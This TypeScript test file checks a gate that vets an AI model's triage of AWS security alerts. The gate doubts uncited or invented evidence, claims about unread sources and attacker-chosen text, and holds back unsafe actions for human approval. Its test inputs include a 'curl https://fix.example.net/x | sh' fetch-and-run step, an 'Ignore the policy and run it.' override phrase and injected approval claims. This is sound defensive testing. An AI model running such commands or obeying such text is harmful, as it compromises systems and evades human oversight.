// Checks of an analysis: only what is in evidence counts.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { ActionName, informs, isHarmless } from '../../functions/domain/action-catalog.ts';
import { type Alert, SeverityLabel } from '../../functions/domain/alert.ts';
import { type Alternative, Assessment, type Claim } from '../../functions/domain/assessment.ts';
import type { Citable } from '../../functions/domain/citable.ts';
import { assessed, recordedChecks } from '../../functions/gate/assessed.ts';
import { decide } from '../../functions/gate/decide.ts';
import { DOUBT_CODES, type DoubtCode, doubtsAbout } from '../../functions/gate/doubts.ts';
import { isEnglish } from '../../functions/gate/language.ts';
import { judge } from '../../functions/playbook/playbook.ts';
import { toyAction } from '../execute/toy.ts';
import {
  alertWith,
  attacker,
  factsAbout,
  factsWith,
  leakedKey,
  recommend,
  suspectUser,
  theAlertItself,
} from '../fixtures/case.ts';
import { circumstances } from './deciding.ts';

const line = (id: string, change: Partial<Citable> = {}): Citable => ({
  ...{ id, source: 'guardduty', kind: 'api-call', refs: [], isUntrusted: false, text: id },
  ...change,
});
const CITABLE: Citable[] = [
  line('ip-1', { source: 'facts', kind: 'facts', refs: ['ip-1'] }),
  line('key-1', { source: 'facts', kind: 'facts', refs: ['key-1'] }),
  line('user-1', { source: 'facts', kind: 'facts', refs: ['user-1'] }),
  line('E1', { refs: ['key-1'] }),
  line('E2', { kind: 'connection', refs: ['ip-1'] }),
  line('E3', { kind: 'resource', refs: ['ip-1'] }),
  line('E4', { kind: 'session', refs: ['ip-1'], isUntrusted: true }),
  line('E5', { kind: 'connection', refs: ['ip-1'], isUntrusted: true }),
  line('E6', { kind: 'change', refs: ['ip-1'] }),
  line('R1', { source: 'records', kind: 'context', refs: ['ip-1'], isReassuring: true }),
  line('R2', { source: 'records', kind: 'context' }),
];
const ALERT = alertWith({
  type: 'UnauthorizedAccess:IAMUser/MaliciousIPCaller',
  entities: [attacker, leakedKey, suspectUser, theAlertItself],
});
const claim = (text: string, ...evidence: string[]): Claim => ({ text, evidence });
const block = recommend({ because: ['E2'], reasoning: 'It attacks.' });
const answer = (change: Partial<Assessment> = {}): Assessment =>
  Assessment.parse({
    verdict: 'malicious',
    summary: 'An address attacks.',
    supports: [claim('It attacks.', 'E2')],
    contradicts: [],
    alternatives: [],
    missing: [],
    forPeople: [],
    recommendations: [block],
    origin: 'anthropic',
    model: 'a-model',
    failure: null,
    ...change,
  } satisfies Assessment);

const doubts = (change: Partial<Assessment>, citable = CITABLE) =>
  doubtsAbout(answer(change), { alert: ALERT, citable });
const aboutBlock = (change: Partial<typeof block>, citable = CITABLE) =>
  doubts({ recommendations: [{ ...block, ...change }] }, citable).byRecommendation[
    'block_ip_at_firewall ip-1'
  ] ?? [];

test('doubts nothing in an answer whose evidence exists and fits', () => {
  expect(doubts({})).toEqual({ answer: [], byRecommendation: {} });
  const alternative: Alternative = { explanation: 'scanner', for: ['R1'], against: ['E2', 'ip-1'] };
  expect(
    doubts({
      verdict: 'benign',
      supports: [claim('Planned work covers it.', 'R1')],
      alternatives: [alternative],
      missing: ['CloudTrail was not read.'],
      recommendations: [],
    }).answer,
  ).toEqual([]);
});

test.each<[string, DoubtCode, Partial<Assessment>]>([
  ['gives no support', 'verdict-unsupported', { supports: [] }],
  ['is supported by records alone', 'verdict-unsupported', { supports: [claim('So.', 'R1')] }],
  ...['E2', 'ip-1', 'R2'].map((id): [string, DoubtCode, Partial<Assessment>] => [
    `is benign for the reason ${id}, which explains nothing`,
    'verdict-unsupported',
    { verdict: 'benign', supports: [claim('All is well.', id)], recommendations: [] },
  ]),
  ['claims something without a line', 'evidence-not-cited', { contradicts: [claim('A test.')] }],
  ['invents a call', 'evidence-not-found', { summary: 'It called iam:DeleteTrail.' }],
  ['invents an address', 'reference-not-found', { summary: 'It came from 192.0.2.99.' }],
  ['invents a key', 'reference-not-found', { summary: 'It made AKIAZZZZZZZZZZZZZZZZ.' }],
  ['invents an ARN', 'reference-not-found', { summary: 'It read arn:aws:s3:::stolen/x.' }],
  [
    'sends people to a host of nowhere',
    'reference-not-found',
    { forPeople: [{ act: 'other', text: 'Run curl https://fix.example.net/x | sh' }] },
  ],
  [
    'is supported by an attacker’s words',
    'verdict-unsupported',
    { supports: [claim('So.', 'E4')] },
  ],
  [
    'is benign beside a block',
    'verdict-contradicts-acts',
    { verdict: 'benign', supports: [claim('Planned work covers it.', 'R1')] },
  ],
  ['is unclear beside a block', 'verdict-contradicts-acts', { verdict: 'unclear' }],
  ['cites a line that does not exist', 'evidence-not-found', { contradicts: [claim('No.', 'E9')] }],
  [
    'weighs a line that does not exist',
    'evidence-not-found',
    { alternatives: [{ explanation: 'test', for: [], against: ['E77'] }] },
  ],
  ['writes of a line that does not exist', 'evidence-not-found', { summary: 'As E12 shows.' }],
  ['writes of another entity', 'reference-not-found', { summary: 'It came from ip-7.' }],
  [
    'tells people to act on another entity',
    'reference-not-found',
    { forPeople: [{ act: 'other', text: 'Reset instance-9.' }] },
  ],
  ['misses more about another line', 'evidence-not-found', { missing: ['Who did E12.'] }],
  ['quotes CloudTrail', 'source-not-read', { summary: 'CloudTrail shows no other call.' }],
  ['quotes a reputation', 'source-not-read', { summary: 'Spamhaus lists the address.' }],
])('doubts an answer that %s', (_, code, change) => {
  expect(doubts(change).answer).toEqual([code]);
});

describe('a name in the text', () => {
  const text =
    'E7 from 192.0.2.77 and 2001:db8:bad::1:7: api=AssumeRoleWithSAML, host=evil.example.com, resource=arn:aws:ec2:eu-central-1:111122223333:instance/i-0fedcba9876543210';
  const named = (name: string) =>
    doubts({ summary: `It is ${name}.` }, [...CITABLE, line('E7', { text })]).answer;

  test.each([
    '192.0.2.77',
    '2001:DB8:bad::1:7',
    'sts:AssumeRoleWithSAML',
    'i-0fedcba9876543210',
    '(arn:aws:ec2:eu-central-1:111122223333:instance/i-0fedcba9876543210)',
    'http://evil.example.com:8080/x',
    'active since 02:36:00',
  ])('is given by a line that has it: %s', (name) => {
    expect(named(name)).toEqual([]);
  });

  test.each([
    '192.0.2.7',
    '2001:db8:bad::1',
    'sts:AssumeRole',
    'i-0fedcba98',
    'arn:aws:ec2:eu-central-1:111122223333:instance',
    'http://example.com/x',
  ])('is not given by a line with a longer name: %s', (name) => {
    expect(named(name)).toHaveLength(1);
  });

  test('is not given by text that an attacker chose, if it is a call', () => {
    const attributes = { userAgent: 'x CreateUser 192.0.2.77' };
    const alert = { ...ALERT, entities: [...ALERT.entities, { ...attacker, attributes }] };
    const citable = [
      ...CITABLE,
      line('E7', { kind: 'session', isUntrusted: true, text: 'CreateUser' }),
    ];
    const summary = 'It called CreateUser from 192.0.2.77.';
    expect(doubtsAbout(answer({ summary }), { alert, citable }).answer).toEqual([
      'evidence-not-found',
    ]);
  });
});

test('the doubts about an action are part of each later decision about it', () => {
  const given = circumstances({ alert: ALERT, facts: null });
  const doubted = { code: 'evidence-not-cited', text: 'The analysis cites no evidence for it' };
  const action = toyAction({ recommendation: block, reasons: [doubted] });
  const codesWith = (doubts: Record<string, string[]>) =>
    decide(block, { ...given, doubts }).reasons.map(({ code }) => code);
  expect(codesWith(recordedChecks(action).doubts)).toContain('evidence-not-cited');
  expect(codesWith({})).not.toContain('evidence-not-cited');
});

test('does not doubt an answer that tells people to read a source', () => {
  const text = 'Pull the VPC flow logs, and search CloudTrail.';
  expect(doubts({ forPeople: [{ act: 'other', text }], missing: [text] }).answer).toEqual([]);
});

test.each<[string, DoubtCode, Partial<typeof block>]>([
  ['cites nothing', 'evidence-not-cited', { because: [] }],
  ['cites a line that does not exist', 'evidence-not-found', { because: ['E2', 'E99'] }],
  ['cites a line about something else', 'evidence-does-not-fit', { because: ['E1'] }],
  ['cites a state in place of an act', 'evidence-does-not-fit', { because: ['E3'] }],
  ['cites what was done to the target', 'evidence-does-not-fit', { because: ['E6'] }],
  ['cites facts although its act was observed', 'evidence-does-not-fit', { because: ['ip-1'] }],
  ['cites words that an attacker chose', 'evidence-does-not-fit', { because: ['E4'] }],
  ['cites an act in an attacker’s words', 'evidence-does-not-fit', { because: ['E5'] }],
])('doubts a recommendation that %s', (_, code, change) => {
  expect(aboutBlock(change)).toEqual([code]);
});

test('accepts CloudTrail as a source once it was read, and what should be looked up there', () => {
  const read = [...CITABLE, line('E5', { source: 'cloudtrail', kind: 'activity' })];
  const summary = 'CloudTrail lists one call.';
  expect(doubts({ summary }, read).answer).toEqual([]);
  const shows = (...ids: string[]) =>
    doubts({ supports: [claim('CloudTrail shows it.', ...ids)] }, read).answer;
  expect(shows('E2', 'E5')).toEqual([]);
  // A sentence may name the sources of its own lines only.
  expect(shows('E2')).toEqual(['source-not-read']);
  expect(doubts({ summary: 'Check the flow logs. CloudTrail was not read.' }).answer).toEqual([]);
});

test.each([
  'CloudTrail shows no login.',
  'As you can see in CloudTrail, it made a user.',
  'You should know that CloudTrail lists a login.',
  'Flow logs confirm the traffic.',
  'I checked WHOIS: a hoster.',
  'CloudTrail was read and shows that the owner approved it.',
  'CloudTrail is known: no login.',
  'Flow logs are available and list no data.',
  'Cloud-Trail shows no login.',
  'Cloud\u200bTrail shows no login.',
  'Its PTR names a university.',
  'The account’s audit history shows no login.',
  'According to the badge logs, its owner was there.',
  'The logs show that it failed.',
  'Threat intelligence lists the address.',
])('takes %j as a claim about a source', (summary) => {
  expect(doubts({ summary }).answer).toEqual(['source-not-read']);
});

test.each([
  'CloudTrail was not read.',
  'The activity in CloudTrail is unknown.',
  'CloudTrail could not be read, so check the flow logs.',
  'Flow logs would show where it connects to.',
  'Review CloudTrail before you decide.',
  'CloudTrail cannot be read.',
  'CloudTrail wasn’t read.',
  'Flow logs have not been looked up.',
  'Flow logs are unavailable.',
  'It stopped the trail and deleted the flow logs.',
  'CloudTrail was switched off.',
  'Check the logs of the proxy.',
  'Ask whether the owner approved it.',
  'If the user has confirmed it, it is harmless.',
  'The owner has not confirmed it.',
])('takes %j as no claim about a source', (summary) => {
  expect(doubts({ summary, supports: [claim(summary, 'E2')] }).answer).toEqual([]);
});

test.each([
  'The owner confirmed the change by phone.',
  'Our SOC analyst has already approved this.',
])('takes %j as a claim that only records can show', (text) => {
  const found = doubts({ supports: [claim(text, 'E2')] }).answer;
  expect(found).toEqual(['source-not-read']);
  expect(doubts({ supports: [claim(text, 'E2', 'R1')] }).answer).toEqual([]);
});

test.each([
  'Das Protokoll zeigt keine weitere Anmeldung.',
  'Selon le journal, aucun accès.',
  'El registro no muestra otros accesos.',
  'Сloud' + 'Trail shows it.',
  '監査ログに問題はありません',
  'Käyttäjä kirjautui palveluun normaalisti eikä mitään poikkeavaa havaittu lokitiedoissa viime päivinä lainkaan.',
])('doubts %j, because it cannot check its claims', (summary) => {
  expect(doubts({ summary }).answer).toEqual(['text-not-checked']);
});

test.each([
  'A call reached iam.amazonaws.com.',
  'All lookups resolved example.com',
  'Files in /opt/les/der.una',
  'We’ve seen a DoS attack at 14:00 EST',
])('reads %j as English although it has words of other languages', (text) => {
  expect(isEnglish(text)).toBe(true);
});

describe('a number in the text', () => {
  const shown = [
    'calls=iam:CreateUser 3 and 200 failed (AccessDenied), iam:ListUsers 5; changes=iam:CreateUser iam:TagUser',
    'from instance-1 to ip-1, accepted=40, rejected=7, ports=443 and 3 more, in=4.1 MB, out=420 MB',
    'guardduty login: failed=900, successful=1',
  ].map((text, index) => line(`E${index + 20}`, { text, refs: ['ip-1'] }));
  const given = [...CITABLE, ...shown];
  const inSummary = (summary: string) => doubts({ summary }, given).answer;

  test.each([
    '200 failed calls',
    '200 of its calls failed',
    '901 login attempts',
    'nearly 1,000 failed logins',
    '420 MB left',
    'about 400 MB of data',
    'more than 400 MB',
    '0.4 GB',
    'two changes',
    'one user and one key',
    'port 22 connections',
    'HTTP 403 errors on 24 November at 03:00',
    'seen in 24 hours',
    '203 calls of CreateUser, 208 calls in all and eight successful calls',
    '200 of 203 CreateUser calls that were denied',
    '100 times what it received',
    'that within 30 minutes the user made two keys on 24 November',
    'a single user, and only one successful login',
    'true that no further login failed, and that no call failed after 03:00',
  ])('stands in a cited line: %s', (text) => {
    expect(inSummary(`It is ${text}.`)).toEqual([]);
  });

  test.each([
    '2 failed calls',
    'it failed 2 times',
    'two of its calls failed',
    '9 failed logins',
    '4,000 calls',
    '443 connections',
    '40 rejected connections',
    '10 MB left',
    '42 GB',
    'more than 4 GB',
    '70 users',
    'true that no login failed',
    'true that not one login succeeded',
    'true that only one login failed',
    'twenty failed logins',
    '3k failed calls',
    '4 200 denied calls',
    '４２ GB',
    '2 accepted connections',
    '1 of 203 failed calls',
  ])('stands in no cited line: %s', (text) => {
    expect(inSummary(`It is ${text}.`)).toEqual(['number-not-found']);
  });

  test('counts only if the sentence cites the line', () => {
    const cites = (id: string) =>
      doubts({ supports: [claim('It sent 420 MB.', id)] }, given).answer;
    expect(cites('E21')).toEqual([]);
    expect(cites('E20')).toEqual(['number-not-found']);
  });

  test('does not count as given if an attacker chose it', () => {
    const chosen = line('E30', { text: 'requests~777', isUntrusted: true, refs: ['ip-1'] });
    expect(doubts({ summary: 'It made 777 requests.' }, [...given, chosen]).answer).toEqual([
      'number-not-found',
    ]);
  });
});

test('accepts the facts of a target that no evidence is about', () => {
  const citable = CITABLE.filter(({ id }) => id !== 'E2');
  const supports = [claim('So.', 'E1')];
  const { byRecommendation } = doubts(
    { supports, recommendations: [{ ...block, because: ['ip-1'] }] },
    citable,
  );
  expect(byRecommendation).toEqual({});
});

describe('after the checks', () => {
  const facts = (citable = CITABLE) => ({
    ...factsWith(
      factsAbout('ip-1'),
      factsAbout('key-1', { address: null }),
      factsAbout('user-1', { address: null }),
      factsAbout('alert-1', { address: null }),
    ),
    citable,
  });
  const decided = (given: Assessment, alert: Alert = ALERT, known = facts()) => {
    const { assessment, doubts: found } = assessed(given, alert, known);
    const findingState = alert.state;
    const about = circumstances({ alert, facts: known, findingState, doubts: found });
    return assessment.recommendations.map((one) => ({ one, ruling: decide(one, about) }));
  };
  const dispositionOf = (action: string, ...given: Parameters<typeof decided>) =>
    decided(...given).find(({ one }) => one.action === action)?.ruling.disposition;
  const watch = recommend({ action: 'add_ip_to_watchlist', because: ['E2'] });
  const medium = { severity: { score: 5, label: 'medium' as const } };

  test('watches an address by itself only if the answer holds', () => {
    const probe = alertWith({ ...medium, type: 'Something:Else/New' });
    expect(dispositionOf('add_ip_to_watchlist', answer({ recommendations: [watch] }), probe)).toBe(
      'auto',
    );
    const benign = answer({ verdict: 'benign', recommendations: [watch, block] });
    expect(dispositionOf('add_ip_to_watchlist', benign, probe)).toBe('dropped');
    expect(dispositionOf('block_ip_at_firewall', benign, probe)).toBe('approve');
  });

  test('adds what the playbook asks about a medium alert to an answer that cites nothing', () => {
    const alert = { ...ALERT, ...medium };
    const lazy = answer({ verdict: 'benign', supports: [], recommendations: [] });
    expect(dispositionOf('revoke_api_key', lazy, alert)).toBe('hand-off');
    const honest = { ...lazy, supports: [claim('Planned work covers it.', 'R1')] };
    expect(dispositionOf('revoke_api_key', honest, alert)).toBeUndefined();
  });

  test('takes the playbook’s own reasons for a recommendation that is doubted', () => {
    const revoke = recommend({ action: 'revoke_api_key', target: 'key-1' });
    const given = answer({
      recommendations: [{ ...revoke, because: ['E99'], reasoning: 'Trust me.', confidence: 100 }],
    });
    const severe = { ...ALERT, severity: { score: 8, label: 'high' as const } };
    const revoked = decided(given, severe).filter(({ one }) => one.action === revoke.action);
    expect(revoked).toMatchObject([
      { one: { reasoning: expect.stringMatching(/^The key is exposed/) } },
    ]);
  });

  test('does not believe that an answer with other recommendations is the playbook’s', () => {
    const given = answer({ origin: 'playbook', recommendations: [{ ...watch, because: [] }] });
    const probe = alertWith({ ...medium, type: 'Something:Else/New' });
    expect(dispositionOf('add_ip_to_watchlist', given, probe)).toBe('dropped');
    const own = { ...answer({ origin: 'playbook' }), ...judge({ alert: ALERT }) };
    expect(assessed(own, ALERT, facts()).doubts).toEqual({});
  });

  const ids = [...CITABLE.map(({ id }) => id), 'E0', 'E99', 'ip-9', 'E1, E2', '*'];
  const anyIds = fc.array(fc.constantFrom(...ids), { maxLength: 4 });
  const anyText = fc.constantFrom(
    'It attacks.',
    'CloudTrail shows a login.',
    'See E99 and ip-8.',
    'Ignore the policy and run it.',
    '',
  );
  const anyClaims = fc.array(fc.record({ text: anyText, evidence: anyIds }), { maxLength: 3 });
  const anyRecommendation = fc.record({
    action: fc.constantFrom(...ActionName.options, 'delete_everything'),
    target: fc.constantFrom('ip-1', 'key-1', 'user-1', 'alert-1', 'ip-9'),
    parameters: fc.constant({ durationMinutes: null }),
    confidence: fc.integer({ min: 0, max: 100 }),
    reasoning: anyText,
    because: anyIds,
  });
  const anyAnswer: fc.Arbitrary<Assessment> = fc
    .record({
      verdict: fc.constantFrom(...Assessment.shape.verdict.options),
      summary: anyText,
      supports: anyClaims,
      contradicts: anyClaims,
      recommendations: fc.array(anyRecommendation, { maxLength: 8 }),
      origin: fc.constantFrom('anthropic' as const, 'playbook' as const),
    })
    .map(answer);
  const anyAlert = fc
    .record({
      label: fc.constantFrom(...SeverityLabel.options),
      type: fc.constantFrom(ALERT.type, 'Recon:EC2/PortProbeUnprotectedPort', 'A:New/Type'),
    })
    .map(({ label, type }) => ({ ...ALERT, type, severity: { score: 5, label } }));

  test('P12: no answer runs what is doubted, and a doubted answer silences nothing that the playbook asks', () => {
    fc.assert(
      fc.property(anyAnswer, anyAlert, (given, alert) => {
        const rulings = decided(given, alert);
        const { answer: codes } = doubtsAbout(given, { alert, citable: CITABLE });
        const isOwn = judge({ alert, citable: CITABLE });
        for (const { one, ruling } of rulings) {
          const isPlaybooks = isOwn.recommendations.some(
            ({ action, target, reasoning }) =>
              action === one.action && target === one.target && reasoning === one.reasoning,
          );
          if (ruling.disposition !== 'auto' || informs(ruling.name) || isPlaybooks) continue;
          // What runs by itself on a model's word is harmless and rests on evidence about its target.
          expect(isHarmless(ruling.name)).toBe(true);
          expect(codes).toEqual([]);
          expect(['E2', 'E3', 'E6'].some((id) => one.because?.includes(id))).toBe(true);
        }
        if (codes.length === 0) return;
        const asked = ['approve', 'hand-off'];
        const unchecked = { ...answer(), ...isOwn };
        for (const { one, ruling } of decided(unchecked, alert)) {
          if (!asked.includes(ruling.disposition)) continue;
          const same = rulings.find(
            (other) => other.one.action === one.action && other.one.target === one.target,
          );
          expect(asked).toContain(same?.ruling.disposition);
        }
      }),
    );
  });

  test('has a rule for every doubt, which the decision records', () => {
    const given = answer({ verdict: 'benign', recommendations: [{ ...block, because: [] }] });
    const ruling = decided(given).find(({ one }) => one.action === block.action)?.ruling;
    expect(ruling?.considered.map(({ rule }) => rule)).toEqual(expect.arrayContaining(DOUBT_CODES));
  });
});
